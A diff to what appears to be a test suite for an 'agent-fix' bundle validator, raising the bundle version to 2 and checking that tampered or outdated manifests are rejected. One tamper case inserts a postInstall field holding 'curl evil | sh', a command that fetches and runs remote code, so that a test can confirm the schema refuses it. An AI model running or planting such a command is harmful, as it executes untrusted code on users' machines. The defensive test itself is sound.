@@ -85,7 +85,7 @@ test('a bundle carries the evidence, the report and the sampling, and no secret'
   const text = readFileSync(path.join(dir, MANIFEST_FILE), 'utf8');
   expect(text).not.toContain(BUNDLE_API_KEY);
   const m = JSON.parse(text);
-  expect(m).toMatchObject({ kind: 'agent-fix-bundle', version: 1, task: { key: 'issue-7' }, baseSha: repo.sha, candidate: { id: '3', temperature: 0.6 } });
+  expect(m).toMatchObject({ kind: 'agent-fix-bundle', version: 2, task: { key: 'issue-7' }, baseSha: repo.sha, candidate: { id: '3', temperature: 0.6 } });
   expect(typeof m.candidate.seed).toBe('number');
   expect(m.settings).toMatchObject({ model: 'scripted', testCommand: 'node test.js', maxChangedLines: 200 });
   expect(Object.keys(m.settings)).not.toContain('apiKey');
@@ -163,7 +163,8 @@ const tampered: Tamper[] = [
   { name: 'an oversize manifest', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), ' '.repeat(2048)), reason: /the manifest is 2048 bytes, over the limit of 1024 bytes/, expect: { limits: { ...DEFAULT_LIMITS, manifestBytes: 1024 } } },
   { name: 'malformed JSON', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), readFileSync(path.join(d, MANIFEST_FILE), 'utf8').slice(0, 500)), reason: /manifest.json is not valid JSON/ },
   { name: 'not a bundle at all', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), '{"hello": "world"}'), reason: /not an agent-fix bundle/ },
-  { name: 'a newer bundle version', tamper: (d) => editManifest(d, (m) => (m.version = 2)), reason: /bundle version `2` is not supported: this agent-fix reads version 1/ },
+  { name: 'a newer bundle version', tamper: (d) => editManifest(d, (m) => (m.version = 3)), reason: /bundle version `3` is not supported: this agent-fix reads version 2; use the same agent-fix version in the propose and publish jobs/ },
+  { name: 'an older bundle version (the loop\'s own proof)', tamper: (d) => editManifest(d, (m) => (m.version = 1)), reason: /bundle version `1` is not supported: this agent-fix reads version 2/ },
   { name: 'a schema-invalid manifest', tamper: (d) => editManifest(d, (m) => (m.evidence.final.counts.failed = 'many')), reason: /does not match the bundle schema: `evidence\.final\.counts\.failed: / },
   { name: 'an unknown manifest field', tamper: (d) => editManifest(d, (m) => (m.postInstall = 'curl evil | sh')), reason: /does not match the bundle schema: .*postInstall/ },
   { name: 'a patch that does not apply', tamper: (d) => replacePatch(d, 'diff --git a/src/add.js b/src/add.js\n--- a/src/add.js\n+++ b/src/add.js\n@@ -1,3 +1,3 @@\n export function add(a, b) {\n-  return a / b;\n+  return a + b;\n }\n'), reason: /does not apply cleanly to [0-9a-f]{12}: .*patch does not apply/ },
